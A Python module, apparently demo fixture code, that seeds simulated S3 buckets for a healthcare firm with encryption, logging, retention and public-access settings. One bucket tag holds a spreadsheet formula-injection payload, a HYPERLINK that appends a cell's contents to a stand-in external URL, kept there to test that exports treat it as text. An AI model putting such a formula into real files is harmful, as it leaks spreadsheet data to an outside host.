"""The S3 buckets. What a record does not say is the good practice."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from proveonce.app.demo.cloud import Cloud, Tags, tag_list
from proveonce.app.demo.places import (
    ACCOUNTS,
    DATA,
    DATA_EAST,
    DATA_EUROPE,
    PROD,
    PROD_EAST,
    PROD_EUROPE,
    PROD_WEST,
    US_EAST,
    Place,
)

LOG_BUCKETS = {
    PROD_EAST: "ehi-prod-access-logs", PROD_WEST: "ehi-prod-access-logs-west", PROD_EUROPE: "ehi-prod-access-logs-eu",
    DATA_EAST: "ehi-data-access-logs", DATA_EUROPE: "ehi-data-access-logs-eu",
}  # fmt: skip
"""Where S3 writes access logs: a bucket of the same account and region."""


@dataclass(frozen=True, slots=True)
class Bucket:
    """A bucket; by default private, encrypted, versioned, TLS only, logged and with a schedule."""

    place: Place
    name: str
    key: str | None = None
    """KMS key; None: encrypted by S3's own keys."""
    is_bare: bool = False
    """Whether nobody ever set anything: encrypted all the same, by S3 itself."""
    is_public: bool = False
    is_versioned: bool = True
    is_logged: bool = True
    writer: str = ""
    """An AWS service that may write here."""
    keep_days: int | None = 400
    tags: Tags = field(default_factory=dict)


_CARE = {"Owner": "platform", "Environment": "production", "DataClass": "ephi"}
_LAKE = {"Owner": "data", "Environment": "production", "DataClass": "ephi"}
_LOGS = {"Owner": "security", "Environment": "production", "DataClass": "internal"}
_WEB = {"Owner": "engineering", "Environment": "production", "DataClass": "public"}
_SANDBOX = {"Owner": "engineering", "Environment": "sandbox", "DataClass": "synthetic"}

BUCKETS = (
    *(Bucket(place, name, is_logged=False, writer="logging.s3", tags=_LOGS) for place, name in LOG_BUCKETS.items()),
    Bucket(PROD_EAST, "ehi-prod-cloudtrail", key="careloop-logs", writer="cloudtrail", keep_days=730, tags=_LOGS),
    Bucket(PROD_EAST, "careloop-claims-documents", key="careloop-data", keep_days=2555, tags=_CARE),
    Bucket(PROD_EAST, "careloop-portal-uploads", key="careloop-data", tags=_CARE),
    # A tag that a spreadsheet would run: it must arrive in the workbook as text.
    Bucket(PROD_EAST, "careloop-partner-drop", key="careloop-exports",
           tags={**_CARE, "Contact": '=HYPERLINK("http://tags.example.net/?x="&A1,"Open me")'}),
    Bucket(PROD_EAST, "careloop-web-assets", is_public=True, tags=_WEB),
    Bucket(PROD_EAST, "careloop-old-exports", is_bare=True),
    Bucket(PROD_EAST, "careloop-sandbox-fixtures", is_versioned=False, is_logged=False, keep_days=None, tags=_SANDBOX),
    Bucket(PROD_WEST, "careloop-claims-documents-dr", key="careloop-dr-data", keep_days=2555, tags=_CARE),
    Bucket(PROD_WEST, "careloop-legal-hold", key="careloop-dr-data", keep_days=None,
           tags={"Owner": "legal", "Environment": "production", "DataClass": "ephi"}),
    Bucket(PROD_EUROPE, "careloop-eu-documents", key="careloop-eu-data", keep_days=2555, tags=_CARE),
    Bucket(DATA_EAST, "ehi-data-cloudtrail", writer="cloudtrail", tags=_LOGS),
    Bucket(DATA_EAST, "ehi-data-lake-raw", key="lake-data", tags=_LAKE),
    Bucket(DATA_EAST, "ehi-data-lake-curated", key="lake-data", tags=_LAKE),
    Bucket(DATA_EAST, "ehi-athena-results", key="lake-data", keep_days=30, is_versioned=False, tags=_LAKE),
    Bucket(DATA_EUROPE, "ehi-research-extracts-eu", key="research-eu-data", tags=_LAKE),
)  # fmt: skip

_BLOCK = {"BlockPublicAcls": True, "IgnorePublicAcls": True, "BlockPublicPolicy": True, "RestrictPublicBuckets": True}
ACCOUNT_BLOCKS = {
    PROD: {**_BLOCK, "BlockPublicPolicy": False, "RestrictPublicBuckets": False},  # for the web assets
    DATA: _BLOCK,
}


def seed_storage(cloud: Cloud) -> None:
    """Every bucket, then the account-wide blocks."""
    for bucket in BUCKETS:
        s3 = cloud.client(bucket.place, "s3")
        where = {"LocationConstraint": bucket.place.region}
        extra = {} if bucket.place.region == US_EAST else {"CreateBucketConfiguration": where}
        s3.create_bucket(Bucket=bucket.name, **extra)
        cloud.remember(bucket.place, bucket.name, bucket.name)
        s3.put_bucket_encryption(Bucket=bucket.name, ServerSideEncryptionConfiguration=_encryption(cloud, bucket))
        if not bucket.is_bare:
            _settings(s3, bucket)
    for account in ACCOUNTS:
        control = cloud.client(Place(account, US_EAST), "s3control")
        control.put_public_access_block(AccountId=account, PublicAccessBlockConfiguration=ACCOUNT_BLOCKS[account])


def _settings(s3: Any, bucket: Bucket) -> None:
    name = bucket.name
    s3.put_bucket_ownership_controls(
        Bucket=name, OwnershipControls={"Rules": [{"ObjectOwnership": "BucketOwnerEnforced"}]}
    )
    s3.put_bucket_policy(Bucket=name, Policy=json.dumps(_policy(bucket)))
    if not bucket.is_public:
        s3.put_public_access_block(Bucket=name, PublicAccessBlockConfiguration=_BLOCK)
    if bucket.is_versioned:
        s3.put_bucket_versioning(Bucket=name, VersioningConfiguration={"Status": "Enabled"})
    if bucket.is_logged:
        target = {"TargetBucket": LOG_BUCKETS[bucket.place], "TargetPrefix": f"{name}/"}
        s3.put_bucket_logging(Bucket=name, BucketLoggingStatus={"LoggingEnabled": target})
    if bucket.keep_days is not None:
        rule = {"ID": "retention", "Status": "Enabled", "Filter": {"Prefix": ""},
                "Expiration": {"Days": bucket.keep_days}}  # fmt: skip
        s3.put_bucket_lifecycle_configuration(Bucket=name, LifecycleConfiguration={"Rules": [rule]})
    s3.put_bucket_tagging(Bucket=name, Tagging={"TagSet": tag_list(bucket.tags)})


def _encryption(cloud: Cloud, bucket: Bucket) -> dict[str, Any]:
    default: dict[str, str] = {"SSEAlgorithm": "AES256"}
    if bucket.key:
        default = {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": cloud.known(bucket.place, bucket.key)}
    return {"Rules": [{"ApplyServerSideEncryptionByDefault": default, "BucketKeyEnabled": bool(bucket.key)}]}


def _policy(bucket: Bucket) -> dict[str, Any]:
    arn = f"arn:aws:s3:::{bucket.name}"
    statements: list[dict[str, Any]] = [{
        "Sid": "TlsOnly", "Effect": "Deny", "Principal": {"AWS": "*"}, "Action": "s3:*", "Resource": [arn, f"{arn}/*"],
        "Condition": {"Bool": {"aws:SecureTransport": "false"}},
    }]  # fmt: skip
    if bucket.writer:
        statements.append({
            "Sid": "Delivery", "Effect": "Allow", "Principal": {"Service": f"{bucket.writer}.amazonaws.com"},
            "Action": "s3:PutObject", "Resource": f"{arn}/*",
            "Condition": {"StringEquals": {"aws:SourceAccount": bucket.place.account}},
        })  # fmt: skip
    if bucket.is_public:
        statements.append({
            "Sid": "Website", "Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "s3:GetObject",
            "Resource": f"{arn}/*",
        })  # fmt: skip
    return {"Version": "2012-10-17", "Statement": statements}
